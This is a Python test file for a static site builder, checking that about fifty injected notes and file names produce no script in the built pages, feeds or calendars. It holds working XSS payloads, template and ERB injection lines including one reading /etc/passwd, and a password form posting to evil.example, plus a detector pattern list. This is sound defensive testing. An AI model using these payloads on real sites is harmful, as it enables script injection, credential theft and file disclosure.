"""No note can bring in script, whatever field or markup it hides in: one site of many attacks, each looked at."""

import re
from dataclasses import dataclass

import pytest
from harm import harms_of, words_of
from story import Story

ATTACKS: dict[str, str] = {
    "script in the heading": "# Kettles <script src=x.js></script> marker\n",
    "script in a paragraph": "# marker\n\nA <script>alert(1)</script> b\n",
    "script with a slash for a blank": "# marker\n\n<script/src=https://evil.example/x.js></script>\n",
    "script that is never closed": "# marker\n\n<script>alert(1)\n",
    "script in a comment that is not one": "# marker\n\n<!--> <script>alert(1)</script> -->\n",
    "script behind a broken tag": "# marker\n\n<<b>script>alert(1)<</b>/script>\n",
    "script in a table cell": "# marker\n\n| a |\n|---|\n| <img src=x onerror=alert(1)> |\n",
    "handler on an image": "# marker\n\n<img src=x onerror='alert(1)'>\n",
    "handler on a detail": "# marker\n\n<details open ontoggle=alert(1)>a</details>\n",
    "handler on a video": "# marker\n\n<video><source onerror=alert(1)></video>\n",
    "svg with a load": "# marker\n\n<svg><g onload=alert(1)></g></svg>\n",
    "svg with a use": "# marker\n\n<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>'/></svg>\n",
    "math with a link": "# marker\n\n<math><maction xlink:href=javascript:alert(1)>a</maction></math>\n",
    "noscript that changes the parser": '# marker\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n',
    "style that imports": "# marker\n\n<style>@import url(https://evil.example/a.css);</style>\n",
    "style that moves": "# marker\n\n<p style='background:url(javascript:alert(1))'>a</p>\n",
    "base": "# marker\n\n<base href=https://evil.example/>\n\n[a](b.md)\n",
    "refresh": "# marker\n\n<meta http-equiv=refresh content='0;url=https://evil.example/'>\n",
    "form": "# marker\n\n<form action=https://evil.example/><input name=password></form>\n",
    "frame with its document": "# marker\n\n<iframe srcdoc='<script>alert(1)</script>'></iframe>\n",
    "frame of a stranger": "# marker\n\n<iframe src=https://evil.example/></iframe>\n",
    "frame that looks like a player": "# marker\n\n<iframe src=https://youtube.com.evil.example/embed/abc></iframe>\n",
    "player with a quotation mark": "# marker\n\n<iframe src='https://youtu.be/a\" onload=\"alert(1)'></iframe>\n",
    "liquid player with a quotation mark": '# marker\n\n{% youtube a" onload="alert(1) %}\n',
    "frame that waits": "# marker\n\n<a href=https://x.example/ data-frame=https://evil.example/>a</a>\n",
    "bare link that looks like a player": "# marker\n\nhttps://youtube.com.evil.example/watch?v=abcdefghijk\n",
    "player named like a script": '# marker\n\n{{< vimeo 123456 title="</a><script>alert(1)</script>" >}}\n',
    "file named like a script": '# marker\n\n{% pdf javascript:alert(1)//a.pdf %}\n\n<object data="data:x,a.pdf">\n',
    "object": "# marker\n\n<object data=https://evil.example/x.swf></object>\n",
    "link with a scheme": "# marker\n\n[a](javascript:alert(1))\n",
    "link with an upper scheme and an entity": "# marker\n\n[a](JaVa&#x09;ScRiPt:alert(1))\n",
    "link with a blank scheme": "# marker\n\n<a href=' \tjava\nscript:alert(1)'>a</a>\n",
    "link to data": "# marker\n\n[a](data:text/html;base64,PHNjcmlwdD4=)\n",
    "link to a visual basic": "# marker\n\n[a](vbscript:msgbox)\n",
    "link by reference": "# marker\n\n[a][b]\n\n[b]: javascript:alert(1)\n",
    "link in angle brackets": "# marker\n\n<javascript:alert(1)>\n",
    "image with a scheme": "# marker\n\n![a](javascript:alert(1))\n",
    "link on the title": "# [marker](javascript:alert(1))\n\nBy [Ann Lee](javascript:alert(2))\n",
    "slides with a scheme": "# An evening\n\n## marker\nBy Ann Lee · [Slides](javascript:alert(1))\n",
    "name with a tag": "# An evening\n\n## marker\nBy <b onclick=alert(1)>Ann</b> Lee\n",
    "fence with attributes": '# marker\n\n```"><img src=x onerror=alert(1)>\na\n```\n',
    "heading with attributes": '# marker {: onclick="alert(1)"}\n\na\n{: onmouseover="alert(1)"}\n',
    "shortcode with attributes": '# marker\n\n{{< figure src="x" onload="alert(1)" link="javascript:alert(1)" >}}\n',
    "footnote": "# marker\n\na[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>\n",
    "title in front matter": '---\ntitle: "marker <script>alert(1)</script>"\ndate: 2020-01-02\n---\na\n',
    "talks in front matter": (
        "---\ntitle: marker\ndate: 2020-01-03\ntalks:\n- title: <img src=x onerror=alert(1)>\n"
        "  speaker: '\"><script>alert(1)</script>'\n  slides: javascript:alert(1)\n  video: data:text/html,x\n---\n"
    ),
    "link in front matter": "---\ntitle: marker\nlink: javascript:alert(1)\nvenue: '<svg onload=alert(1)>'\n---\na\n",
    "tags in front matter": "---\ntitle: marker\ntags: ['<script>alert(1)</script>', '\"onload=alert(1)']\n---\na\n",
    "a key of its own": "---\ntitle: marker\n'<script>alert(1)</script>': '<img src=x onerror=alert(1)>'\n---\na\n",
    "template that runs": "# marker {{ 7*7 }}\n\n{% for x in ().__class__.__subclasses__() %}{{ x }}{% endfor %}\n",
    "embedded ruby that runs": "# marker <%= 7*7 %>\n\n<%= `cat /etc/passwd` %>\n",
    "calendar lines": '---\ntitle: "marker\\nATTACH:x"\ndate: 2020-01-04\nvenue: "a\\nBEGIN:VALARM"\n---\na\n',
    "end of a feed's data": "# marker ]]></title><script>alert(1)</script>\n\n]]>&lt;/content&gt;<script>\n",
}
"""What is tried: a note, which says `marker` in its title."""

FILES = {
    "img onerror=alert(1).md": "# marker\n",
    "2020-02-02-'\"><script>alert(1)<": "# marker\n",
    "a&b<i>/'onload='x.md": "# marker\n",
}
"""File names that try the same."""


HARMS = (
    "<script>alert(1)</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<p onclick='alert(1)'>",
    "<a href=' java\nscript:alert(1)'>",
    "<img src='data:text/html,x'>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object></object>",
    "<base href=x>",
    "<svg></svg>",
)
"""What the look-out must see, or the tests above it prove nothing."""


@dataclass(frozen=True, slots=True)
class Site:
    """The site of all attacks, looked through once."""

    words: dict[str, str]
    """What each page shows."""
    harms: dict[str, list[str]]
    """What is harmful in each file."""
    text: str
    """All pages, feeds and data together."""


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Site:
    story = Story(tmp_path_factory.mktemp("attacked"))
    for number, text in enumerate(ATTACKS.values()):
        story.file(f"notes/attack-{number}.md", text.replace("marker", f"marker{number}x"))
    for number, (name, text) in enumerate(FILES.items(), len(ATTACKS)):
        story.file(f"notes/{name}", text.replace("marker", f"marker{number}x"))
    report = story.build()
    assert report.published, [str(one) for one in report.diagnostics]
    files = story.files()
    read = {path: data.decode() for path, data in files.items() if path.endswith((".html", ".json", ".xml", ".ics"))}
    words = {path: words_of(files[path]) for path in files if path.endswith(".html")}
    return Site(words, harms_of(files), "\n".join(read.values()))


def test_nothing_in_the_whole_site_does_harm(site):
    assert {path: harms for path, harms in site.harms.items() if harms} == {}


@pytest.mark.parametrize("number", range(len(ATTACKS) + len(FILES)), ids=[*ATTACKS, *FILES])
def test_an_attack_is_shown_and_does_nothing(site, number):
    pages = [path for path, words in site.words.items() if f"marker{number}x" in words]

    assert pages != []
    assert [harm for path in pages for harm in site.harms[path]] == []


def test_nothing_in_a_note_was_worked_out(site):
    assert not re.search(r"marker\d+x 49|<class|root:x", site.text)


@pytest.mark.parametrize("harm", HARMS)
def test_the_look_out_would_see_it(harm):
    assert harms_of({"404.html": b"<p>a</p>", "a.html": f"<p>a</p>{harm}".encode()})["a.html"] != []
